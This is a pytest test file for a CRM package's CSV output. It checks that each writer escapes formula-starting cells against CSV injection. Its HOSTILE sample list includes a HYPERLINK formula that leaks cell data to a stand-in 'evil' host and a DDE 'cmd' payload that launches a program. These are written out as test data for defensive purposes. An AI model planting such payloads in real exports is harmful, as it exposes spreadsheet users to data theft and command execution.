"""CSV output escapes formula cells (CSV injection, OWASP) in every writer (issue 14)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmcore.cli import main
from crmcore.csv_output import FORMULA_STARTS, SafeDictWriter, SafeWriter, escape_cell

HOSTILE = ["=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1", "\r=1"]
SRC = Path(__file__).resolve().parents[2] / "src"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@given(st.text())
def test_no_escaped_text_cell_starts_a_formula_and_unescaping_restores_it(text: str) -> None:
    escaped = escape_cell(text)
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text) is not None
    assert number or not escaped.startswith(FORMULA_STARTS)
    assert (escaped[1:] if escaped != text else escaped) == text


@pytest.mark.parametrize("value", ["-12.50", "+3", "-1e5", 5, -5.5, None, "plain", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_an_apostrophe(value: str) -> None:
    assert escape_cell(value) == "'" + value


def test_every_csv_writer_in_crmcore_goes_through_csv_output() -> None:
    offenders = [
        str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
        # xlsx.py feeds the CSV *reader*; csv_columns.py asks a writer what it quotes
        if path.name not in ("csv_output.py", "csv_columns.py", "xlsx.py")
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_grade_csv_escapes_hostile_customer_ids(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    source = io.StringIO()
    writer = csv.writer(source)
    writer.writerow(["customer_id", "date", "amount"])
    for number, customer in enumerate(HOSTILE[:4], start=1):
        writer.writerow([customer, "2026-01-05", f"{number * 100}.00"])
    path = tmp_path / "hostile.csv"
    path.write_text(source.getvalue(), encoding="utf-8")
    assert main(["grade", str(path), "--scheme", "pareto-abc", "--format", "csv",
                 "--as-of", "2026-06-30"]) == 0
    rows = _cells(capsys.readouterr().out)
    ids = {row[0] for row in rows[1:]}
    assert ids == {"'" + value for value in HOSTILE[:4]}


def test_report_rows_csv_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    from crmcore.cli.reports import print_rows

    print_rows([(HOSTILE[0], -3.5, "-4.25")], ("customer", "margin", "text"), "csv")
    assert _cells(capsys.readouterr().out) == [["customer", "margin", "text"],
                                               ["'" + HOSTILE[0], "-3.5", "-4.25"]]


def test_pipeline_csv_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    from crmcore.cli.pipeline import _csv

    _csv([{"id": "O1", "title": HOSTILE[3]}], ("id", "title"))
    assert _cells(capsys.readouterr().out)[1] == ["O1", "'" + HOSTILE[3]]


def test_forecast_csv_escapes() -> None:
    from crmcore.sales.forecast import Forecast, ForecastRow
    from crmcore.sales.forecast_export import to_csv

    row = ForecastRow(key=HOSTILE[1], currency="CNY", opportunities=1, pipeline=1.0,
                      repeat=0.0, variance=0.0, low=-1.0, high=2.0)
    out = io.StringIO()
    to_csv(Forecast(by="owner", as_of=date(2026, 6, 30), level=0.8, rows=(row,),
                    unpriced=(), method="test"), out)
    record = _cells(out.getvalue())[1]
    assert record[0] == "'" + HOSTILE[1]
    assert "-1.0" in record


def test_dict_writer_refuses_unknown_fields() -> None:
    with pytest.raises(ValueError, match="not in the header"):
        SafeDictWriter(io.StringIO(), ["a"]).writerow({"b": 1})
    out = io.StringIO()
    SafeWriter(out).writerow(["=1", "1"])
    assert out.getvalue() == "'=1,1\n"


_CELL = st.one_of(st.text(max_size=8), st.sampled_from(HOSTILE), st.integers(), st.floats(),
                  st.none())


@given(st.integers(0, 6).flatmap(lambda rows: st.lists(
    st.lists(_CELL, min_size=rows, max_size=rows), max_size=5)))
def test_writing_columns_equals_writing_their_rows(columns: list[list[object]]) -> None:
    """The column-at-a-time writer (bulk CSV output) escapes exactly as the row writer does."""
    by_columns, by_rows = io.StringIO(), io.StringIO()
    SafeWriter(by_columns).writecolumns(columns)
    SafeWriter(by_rows).writerows(zip(*columns, strict=True))
    assert by_columns.getvalue() == by_rows.getvalue()
